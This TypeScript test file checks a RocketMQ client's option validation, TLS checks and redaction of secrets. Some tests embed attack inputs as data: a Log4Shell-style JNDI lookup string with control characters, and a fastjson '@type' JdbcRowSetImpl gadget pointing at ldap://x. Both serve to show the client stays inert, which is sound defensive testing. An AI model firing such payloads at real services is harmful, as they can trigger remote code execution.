import {
  assert,
  assertEquals,
  assertFalse,
  assertInstanceOf,
  assertMatch,
  assertRejects,
  assertStringIncludes,
  assertThrows,
} from "@std/assert";
import * as library from "../../mod.ts";
import { Credentials } from "../../src/access/mod.ts";
import { resolveClientOptions } from "../../src/client/mod.ts";
import { ConnectionError, InvalidArgumentError, type RocketMQError } from "../../src/errors.ts";
import {
  DEFAULT_MAX_FRAME_SIZE,
  type RemotingCommand,
  RequestCode,
} from "../../src/remoting/mod.ts";
import { EmbeddedBroker } from "../../src/testing/mod.ts";
import { readSendMessageRequest } from "../../src/testing/requests.ts";
import type { Dialer } from "../../src/transport/mod.ts";
import { CREDENTIALS, LIFE, liveALife, requestsTo } from "../client/access_support.ts";
import { utf8 } from "../remoting/frames.ts";
import { settle } from "../support/fake_clock.ts";
import { RecordingLogger } from "../support/recording_logger.ts";
import { recordEvents, ScriptedCluster, TOPIC, watch } from "../support/scripted_cluster.ts";
import { silence } from "../support/scripted_peer.ts";
import { message, saying } from "../transaction/support.ts";
import { open } from "../transport/harness.ts";
import {
  assertRefused,
  authority,
  caCerts,
  identity,
  roundTrip,
} from "../transport/tls_harness.ts";
import { acceptTcp, acceptTls } from "../transport/tls_servers.ts";
import { SECRET_MARK, testSecret } from "../support/secrets.ts";

/*
  How a client may be set up, row by row: options that are refused when it is made, what is never
  shown or sent, and surroundings that lack something or change.
*/

const SEND = RequestCode.SEND_MESSAGE_V2;
const { Producer, TransactionProducer } = library;

/** Options that a transaction producer can be made with. */
function optionsWith(options: Record<string, unknown>) {
  return {
    nameServers: "127.0.0.1:9876",
    producerGroup: "group",
    topics: [TOPIC],
    transactionListener: saying("COMMIT"),
    ...options,
  } as unknown as library.TransactionProducerOptions;
}

const TIMES = [
  "connectTimeout",
  "requestTimeout",
  "startTimeout",
  "shutdownTimeout",
  "routePollInterval",
  "heartbeatInterval",
  "nameServersPollInterval",
  "sendTimeout",
  "sendTimeoutPerTry",
  "endTransactionTimeout",
  "checkTimeout",
] as const;

function isOfTransactions(options: object): boolean {
  return "endTransactionTimeout" in options || "checkTimeout" in options;
}

const EMPTY = "it is empty, at least one host:port is needed";
const NO_LIST = 'it must be "host:port;host:port" or a list';

const REFUSED: readonly (readonly [row: string, Record<string, unknown>, says: string])[] = [
  ...["", " ", ";;", []].map((nameServers) => ["E1", { nameServers }, EMPTY] as const),
  ...[undefined, null, 42, {}, [42]].map((it) => ["E1", { nameServers: it }, NO_LIST] as const),
  ...["a", "a:", ":9876", "a:0", "a:1e4", "a:70000", "::1:9876", "a b:9876"].map((entry) =>
    [
      "E1",
      { nameServers: `good:9876;${entry}` },
      entry === "a:70000" ? "70000" : "host:port",
    ] as const
  ),
  ["E2", { nameServers: "http://x/rocketmq/nsaddr" }, "nameServersUrl takes the URL of a list"],
  ["E3", { nameServers: `user:${testSecret("hunter2")}@host:9876` }, "only host:port is allowed"],
  ["E3", { nameServers: `http://u:${testSecret("hunter2")}@h:1` }, "only host:port is allowed"],
  ["E3", { addressMap: { "h:1": `user:${testSecret("hunter2")}@h:1` } }, "host:port"],
  [
    "E3",
    { nameServers: undefined, nameServersUrl: `htp://user:${testSecret("hunter2")}@x/` },
    "it must be an http: or https: URL",
  ],
  ...TIMES.flatMap((name) =>
    [0, -1, NaN, Infinity, "3000", 2 ** 31, 1.5, null].map((value) =>
      [
        "E4",
        { [name]: value },
        `option ${name}: it must be a whole number from 1 to 2147483647 ms, current value is ${
          typeof value === "string" ? JSON.stringify(value) : value
        }`,
      ] as const
    )
  ),
  ...[-1, 17, 1e9, 1.5, "2"].map((retries) => ["E5", { retries }, "from 0 to 16"] as const),
  ...[DEFAULT_MAX_FRAME_SIZE, DEFAULT_MAX_FRAME_SIZE + 1, 2 ** 31, 0, -1]
    .map((maxMessageSize) => ["E6", { maxMessageSize }, "option maxMessageSize"] as const),
  ["E7", { tls: "yes" }, "it must be true, false, or an object with certificates"],
  ["E7", { tls: { caCerts: ["ca.pem"] } }, "caCerts[0]: it is not a certificate"],
  ["E10", { credentials: { accessKey: "", secretKey: testSecret("hunter2") } }, "accessKey"],
  ["E10", { credentials: { secretKey: testSecret("hunter2") } }, "accessKey"],
  ["E10", { credentials: { accessKey: "alice", secretKey: "" } }, "secretKey"],
  ["E10", { credentials: { accessKey: "alice" } }, "secretKey"],
  [
    "E10",
    { credentials: { accessKey: "alice", secretKey: `${testSecret("hunter2")}\n` } },
    "secretKey",
  ],
  ...["a@b", "a#b", "a\nb", "", " ", "ü", "x".repeat(128), 42, null].flatMap((name) => [
    ["E13", { instanceName: name }, "Cannot use option instanceName"] as const,
    ["E13", { unitName: name }, "Cannot use option unitName"] as const,
  ]),
];

const byRow = Map.groupBy(REFUSED, ([row]) => row);
for (const [row, refused] of byRow) {
  Deno.test(`${row} - options that are refused when a producer is made`, async (test) => {
    for (const [, options, says] of refused) {
      const title = Deno.inspect(options, { strAbbreviateSize: 40 });
      await test.step(title.replaceAll(SECRET_MARK, "***"), () => {
        const classes = isOfTransactions(options)
          ? [TransactionProducer]
          : [Producer, TransactionProducer];
        for (const Class of classes) {
          const { transactionListener, ...plain } = optionsWith(options);
          const given = Class === Producer ? plain : { ...plain, transactionListener };
          const make = () => new Class(given as library.TransactionProducerOptions);
          const error = assertThrows(make, InvalidArgumentError, says);
          assertEquals([error.code, error.isRetriable], ["INVALID_ARGUMENT", false]);
          assertMatch(error.message, /^Cannot \P{Cc}*$/u);
          assertFalse(Deno.inspect(error).includes(testSecret("hunter2")));
        }
      });
    }
  });
}

Deno.test("E1 - name servers with spaces, gaps and duplicates: trimmed, each taken once", () => {
  for (
    const nameServers of [
      " a:9876 ; ;b:9876 ;a:9876;",
      ["a:9876", " b:9876", "a:9876"],
      ["a:9876;b:9876"],
    ]
  ) {
    assertEquals(resolveClientOptions({ nameServers }).nameServers, ["a:9876", "b:9876"]);
  }
  const kinds = resolveClientOptions({ nameServers: "[::1]:9876;10.0.0.1:1;ns.example:65535" });
  assertEquals(kinds.nameServers, ["[::1]:9876", "10.0.0.1:1", "ns.example:65535"]);
});

Deno.test("E4 - a timeout of a call: refused in the same way, nothing is sent", async () => {
  await using cluster = new ScriptedCluster();
  const producer = await cluster.started(saying("COMMIT"));
  for (const timeout of [0, -1, NaN, Infinity, "3000", 2 ** 31] as number[]) {
    for (
      const call of [
        () => producer.send(message(), { timeout }),
        () => producer.sendMessageInTransaction(message(), undefined, { timeout }),
      ]
    ) {
      await assertRejects(call, InvalidArgumentError, "from 1 to 2147483647 ms");
    }
  }
  assertEquals(cluster.broker.requests(SEND), []);
});

Deno.test("E4, E5 - the longest time and the most retries: taken", () => {
  for (const name of TIMES) {
    for (const value of [1, 2 ** 31 - 1]) new TransactionProducer(optionsWith({ [name]: value }));
  }
  for (const retries of [0, 16]) new TransactionProducer(optionsWith({ retries }));
});

Deno.test("E7 - TLS without certificates of one's own: the runtime's roots decide, the host name counts", async () => {
  await using server = acceptTls(identity);
  await using other = acceptTls(await authority.issue("broker", { names: ["mq.example.com"] }));
  await assertRefused(server.port, {}, "an unknown issuer", "caCerts");
  await assertRefused(other.port, { caCerts }, "valid for mq.example.com, not for 127.0.0.1");
  assertEquals(await roundTrip(server.port, { caCerts }), "hello");
});

Deno.test("E7 - options by which other clients trust all: there is none that does it here", async () => {
  await using server = acceptTls(identity);
  const wishes = {
    rejectUnauthorized: false,
    insecureSkipVerify: true,
    trustAll: true,
    tlsTestModeEnable: true,
    unsafelyIgnoreCertificateErrors: true,
    unsafelyDisableHostnameVerification: true,
  };
  for (const [name, value] of Object.entries(wishes)) {
    const make = () => library.createTlsDialer({ [name]: value });
    assertThrows(
      make,
      InvalidArgumentError,
      `Cannot use TLS option ${name}: there is no such option`,
    );
  }
  await assertRefused(server.port, {}, "an unknown issuer");
});

Deno.test("E8 - TLS wanted and a server that speaks plain text: refused, nothing but a handshake is sent", async () => {
  const received: number[] = [];
  {
    await using server = acceptTcp(async (conn) => {
      const buffer = new Uint8Array(65_536);
      const count = await conn.read(buffer);
      received.push(...buffer.subarray(0, count ?? 0));
      await conn.write(utf8("HTTP/1.1 400 Bad Request\r\n\r\n"));
    });
    const producer = new TransactionProducer(optionsWith({
      nameServers: `127.0.0.1:${server.port}`,
      tls: true,
      startTimeout: 300,
    }));
    const error = await assertRejects(() => producer.start(), ConnectionError);
    assertStringIncludes(error.message, "the peer speaks plain text");
    await producer.shutdown();
  }
  assertEquals(received[0], 0x16, "the first byte of a TLS handshake");
  assertFalse(new TextDecoder().decode(Uint8Array.from(received)).includes(TOPIC));
});

for (const [encrypted, warnings] of [[false, 1], [true, 0], [undefined, 0]] as const) {
  Deno.test(`E9 - credentials to another machine, encrypted ${encrypted}: ${warnings} warnings`, async () => {
    await using cluster = new ScriptedCluster();
    const dialer: Dialer = async (...to) => {
      const { readable, writable, close } = await cluster.network.dialer(...to);
      return { readable, writable, close, ...(encrypted === undefined ? {} : { encrypted }) };
    };
    await cluster.started(saying("COMMIT"), { credentials: CREDENTIALS, dialer });
    assertEquals(cluster.logger.matching("not encrypted", "warn").length, warnings);
    await cluster.producer({ dialer }).start();
    assertEquals(cluster.logger.matching("not encrypted").length, warnings);
  });
}

Deno.test("E9 - credentials to the same machine: no warning", async () => {
  await using broker = await EmbeddedBroker.start();
  const logger = new RecordingLogger();
  const { port } = new URL(`http://${broker.nameServer}`);
  for (const nameServers of [broker.nameServer, `localhost:${port}`]) {
    await using producer = new Producer({
      nameServers,
      producerGroup: "local",
      topics: ["Local"],
      credentials: CREDENTIALS,
      logger,
    });
    await producer.start();
    await producer.send({ topic: "Local", body: "x" });
  }
  assert(logger.lines.length > 0);
  assertEquals(logger.matching("not encrypted"), []);
});

Deno.test("E11 - secret, token and signatures: in nothing that shows an object of ours, and in no client id", async () => {
  await using cluster = new ScriptedCluster();
  const { broker, logger } = cluster;
  const producer = await cluster.started(saying("COMMIT", "ROLLBACK"), {
    credentials: CREDENTIALS,
  });
  const events = recordEvents(producer as library.TransactionProducer<never>);
  const things: unknown[] = [producer, events, logger.lines, broker.heartbeats()];
  things.push(resolveClientOptions({ ...cluster.options, credentials: CREDENTIALS }));
  things.push(cluster.client({ credentials: CREDENTIALS }));
  things.push(cluster.producer({ credentials: CREDENTIALS }));
  const keep = async (promise: Promise<unknown>) => {
    things.push(await promise.catch((error) => error));
  };

  await keep(producer.sendMessageInTransaction(message()));
  await keep(producer.begin(message()));
  broker.checkBack(broker.strangeHalf({ transactionId: "0".repeat(32) }));
  broker.checkBack(broker.strangeHalf({ transactionId: "1".repeat(32) }), {
    body: new Uint8Array(9),
  });
  for (
    const remark of [
      "check signature failed.",
      "User:alice has no permission to access Topic:TopicTest from 10.0.0.1, no matched policies.",
    ]
  ) {
    for (const code of [SEND, RequestCode.END_TRANSACTION]) {
      broker.once(code, () => ({ code: 16, remark }));
      await keep(producer.sendMessageInTransaction(message()));
    }
  }
  broker.once(SEND, (_command, on) => on.reset());
  await keep(producer.sendMessageInTransaction(message()));
  await keep(producer.send(message({ topic: "no.topic" })));
  await settle();
  things.push(producer.stats());
  await cluster.clock.advance(60_000);

  const signatures = requestsTo(cluster).map(({ extFields }) => extFields.Signature!);
  assert(signatures.length > 10 && logger.lines.length > 2 && events.length > 5);
  const secrets = [CREDENTIALS.secretKey, CREDENTIALS.securityToken, ...signatures];
  for (const thing of things) {
    const shown = [
      Deno.inspect(thing, { depth: 30, showHidden: true, strAbbreviateSize: Infinity }),
      JSON.stringify(thing, (_key, value) => typeof value === "bigint" ? `${value}` : value) ?? "",
      String(thing),
      (thing as RocketMQError).stack ?? "",
    ];
    for (const text of shown) {
      for (const secret of secrets) assert(!text.includes(secret), text);
    }
  }
});

Deno.test("E12 - header fields that are added late: the signature covers them all, in the order of UTF-16, and the body", async () => {
  await using cluster = new ScriptedCluster();
  const added = { "é": "1", z: "2", Z: "3", "\u{1f600}": "4", "\uff5e": "5", _x: "6" };
  await liveALife(cluster, {
    credentials: CREDENTIALS,
    requestHooks: [{ before: () => added }],
    namespaceV2: "ns",
  });
  const requests = requestsTo(cluster);
  assert(requests.length > LIFE.length);
  for (const request of requests) {
    assertEquals({ ...request.extFields, ...added }, request.extFields);
    assertEquals(request.extFields.Signature, signatureOf(request));
  }
});

/** The signature that a server expects of a request. */
function signatureOf({ extFields, body }: RemotingCommand): string {
  const names = Object.keys(extFields).filter((name) => name !== "Signature").sort();
  const text = names.map((name) => extFields[name]).join("");
  return new Credentials(CREDENTIALS).sign(text, body);
}

Deno.test("E14 - a text that loggers have acted on: inert wherever it comes, bodies in no log", async () => {
  await using cluster = new ScriptedCluster();
  const { broker, logger } = cluster, evil = "${jndi:ldap://x}\r\n\u001b[2J";
  const producer = await cluster.started({
    executeLocalTransaction() {
      throw new Error(evil);
    },
  });
  const errors: unknown[] = [];
  const keep = (error: unknown) => void errors.push(error);
  await producer.send(message({ topic: evil })).catch(keep);
  broker.once(SEND, () => ({ code: 13, remark: evil }));
  await producer.send(message({ body: `secret body ${evil}` })).catch(keep);
  await producer.sendMessageInTransaction(message({ body: `secret body ${evil}` })).catch(keep);
  broker.checkBack(broker.strangeHalf({ transactionId: evil, body: utf8("secret body") }));
  broker.connection.send(Uint8Array.of(0, 0, 0, 1));
  await cluster.clock.advance(60_000);

  assert(errors.length === 2 && logger.lines.length > 0);
  const told = [...errors as Error[], ...logger.lines].map(({ message: text }) => text);
  assertEquals(told.filter((text) => text.includes("${jndi:ldap://x}")).length > 1, true);
  for (const text of told) assertMatch(text, /^\P{Cc}*$/u);
  const everything = Deno.inspect([errors, logger.lines], {
    depth: 20,
    strAbbreviateSize: Infinity,
  });
  assertFalse(everything.includes("secret body"));
});

Deno.test("E15 - @type in the JSON of a server: plain data", async () => {
  await using cluster = new ScriptedCluster();
  const type =
    '"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x","autoCommit":true';
  cluster.nameServer.route(
    TOPIC,
    utf8(
      `{${type},"brokerDatas":[{${type},"brokerAddrs":{"0":"${cluster.broker.address}"},` +
        `"brokerName":"broker-1"}],"queueDatas":[{${type},"brokerName":"broker-1",` +
        '"perm":6,"readQueueNums":4,"writeQueueNums":4}]}',
    ),
  );
  cluster.broker.on(SEND, (command, from) => cluster.broker.store(command, from, { "@type": "x" }));
  const producer = await cluster.started(saying("COMMIT"));
  const result = await producer.sendMessageInTransaction(message());
  assertEquals(result.endTransaction, "confirmed");
  assertFalse(
    JSON.stringify(result, (_key, it) => typeof it === "bigint" ? 0 : it).includes("@type"),
  );
  const dialled = cluster.network.dials.map(({ address }) => address);
  assertEquals(dialled, [cluster.nameServer.address, cluster.broker.address]);
});

Deno.test("E16 - requests that administer servers: no way to send them", async () => {
  const forbidden =
    /invoke|^Connection$|^ClientInstance$|^RequestCode$|^encodeCommand$|^createRequest$/i;
  assertEquals(Object.keys(library).filter((name) => forbidden.test(name)), []);
  for (const { prototype } of [Producer, TransactionProducer]) {
    const methods = Object.getOwnPropertyNames(prototype);
    assertEquals(methods.filter((name) => forbidden.test(name)), []);
  }

  await using cluster = new ScriptedCluster();
  let tries = 0;
  const hook: library.RequestHook = {
    before(request) {
      Reflect.set(request, "code", RequestCode.UPDATE_BROKER_CONFIG);
      tries++;
      return { code: "318", opaque: "318" };
    },
  };
  await liveALife(cluster, { requestHooks: [hook] });
  const codes = new Set(requestsTo(cluster).map(({ code }) => code));
  assertEquals(codes, new Set(LIFE));
  assert(tries > LIFE.length);
});

Deno.test("E17 - requests of a server that do things in other clients: not supported, or ignored when one-way", async () => {
  const { connection, remote, logger } = open();
  const codes = [40, 220, 221, 307, 309, 326, 999];
  for (const code of codes) {
    remote.request({ code }, { oneway: true });
    remote.request({ code }, { oneway: false });
  }
  await settle();
  assertEquals(
    remote.responses.map(({ code, opaque, remark, extFields, body }) =>
      [code, opaque, remark, extFields, body.length] as const
    ),
    codes.map((code, i) =>
      [3, 1_000_001 + 2 * i, ` request type ${code} not supported`, {}, 0] as const
    ),
  );
  assertEquals(connection.stats().unknownRequests, 14);
  assertEquals(logger.lines.length, 1, "one warning a minute");
  assert(connection.isOpen);
  connection.close();
});

Deno.test("E18 - a wall clock that jumps: timeouts, heartbeats and pauses go on, only the time of birth follows", async () => {
  await using cluster = new ScriptedCluster();
  const { broker, clock, network } = cluster;
  const producer = await cluster.started(saying("COMMIT"), { retries: 0 });
  const HOUR = 3_600_000;
  for (const jump of [() => -HOUR, () => 2 * HOUR, () => -clock.now()]) {
    broker.once(SEND, silence);
    const late = watch(producer.send(message(), { timeout: 3_000 }));
    await clock.advance(1_500);
    clock.moveWallClock(jump());
    await clock.advance(1_499);
    assertEquals(late.state, "pending");
    await clock.advance(1);
    assertInstanceOf(late.error, ConnectionError);
    assertEquals(late.error.code, "TIMEOUT");

    const beats = broker.heartbeats().length;
    await clock.advance(60_000);
    assertEquals(broker.heartbeats().length, beats + 2);

    const { endTransaction } = await producer.sendMessageInTransaction(message());
    assertEquals(endTransaction, "confirmed");
    const { bornTimestamp } = readSendMessageRequest(broker.requests(SEND).at(-1)!);
    assertEquals(Number(bornTimestamp), clock.now());

    network.fail(broker.address);
    const dials = network.dialsOf(broker.address).length;
    broker.cut();
    await settle();
    const waiting = watch(producer.send(message(), { timeout: 2_000 }));
    await clock.advance(1_000);
    clock.moveWallClock(jump());
    await clock.advance(700);
    assertEquals(waiting.state, "pending");
    await clock.advance(300);
    assertInstanceOf(waiting.error, ConnectionError);
    const tried = network.dialsOf(broker.address).length - dials;
    assert(tried >= 1 && tried <= 10, `${tried} dials in 2 s`);
    network.mend(broker.address);
    await clock.advance(5_000);
    assertEquals(broker.open.length, 1);
  }
});

Deno.test("E19 - no permission for a broker: an error with address and flag at once, nothing dials on", async () => {
  await using cluster = new ScriptedCluster();
  const { network, broker, clock } = cluster;
  network.fail(broker.address, "forbidden");
  const producer = cluster.transactionProducer(saying("COMMIT"));
  const error = await assertRejects(() => producer.start(), ConnectionError);
  assertEquals([error.code, error.isRetriable, error.brokerName], [
    "CONNECT_FAILED",
    false,
    "broker-1",
  ]);
  assertStringIncludes(error.message, `--allow-net=${broker.address}`);
  await clock.advance(60_000);
  assertEquals(network.dialsOf(broker.address).length, 1);
});

Deno.test("E19 - a program that was given the name server only: told which broker to allow as well", async () => {
  await using broker = await EmbeddedBroker.start();
  const { stdout } = await run(
    [`--allow-net=${broker.nameServer}`],
    `
    import { Producer } from ${JSON.stringify(new URL("../../mod.ts", import.meta.url).href)};
    const producer = new Producer({
      nameServers: ${JSON.stringify(broker.nameServer)}, producerGroup: "g", topics: ["T"],
    });
    try {
      await producer.start();
    } catch ({ name, code, isRetriable, message }) {
      console.log(JSON.stringify({ name, code, isRetriable, message }));
    }`,
  );
  const { message: text, ...facts } = JSON.parse(stdout);
  assertEquals(facts, { name: "ConnectionError", code: "CONNECT_FAILED", isRetriable: false });
  assertStringIncludes(text, `--allow-net=${broker.brokers[0]!.address}`);
});

Deno.test("E20 - a runtime that ignores certificate errors: it says so once itself", async () => {
  await using server = acceptTls(identity);
  const { stdout, stderr } = await run(
    ["--allow-net", "--unsafely-ignore-certificate-errors"],
    `
    import { createTlsDialer } from ${
      JSON.stringify(new URL("../../mod.ts", import.meta.url).href)
    };
    const dial = createTlsDialer();
    for (let i = 0; i < 2; i++) {
      const { signal } = new AbortController();
      (await dial("127.0.0.1", ${server.port}, { signal })).close();
    }
    console.log("done");`,
  );
  assertEquals(stdout.trim(), "done");
  assertEquals(stderr.match(/certificate validation is disabled/g)?.length, 1, stderr);
});

/** Runs a script with some permissions, and gives what it prints. */
async function run(flags: string[], script: string): Promise<{ stdout: string; stderr: string }> {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "--no-prompt", "--no-check", "--ext=ts", ...flags, "-"],
    cwd: new URL("../../", import.meta.url),
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const output = child.output();
  const writer = child.stdin.getWriter();
  await writer.write(utf8(script));
  await writer.close();
  const { stdout, stderr } = await output;
  const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  assert(text(stdout), text(stderr));
  return { stdout: text(stdout), stderr: text(stderr) };
}
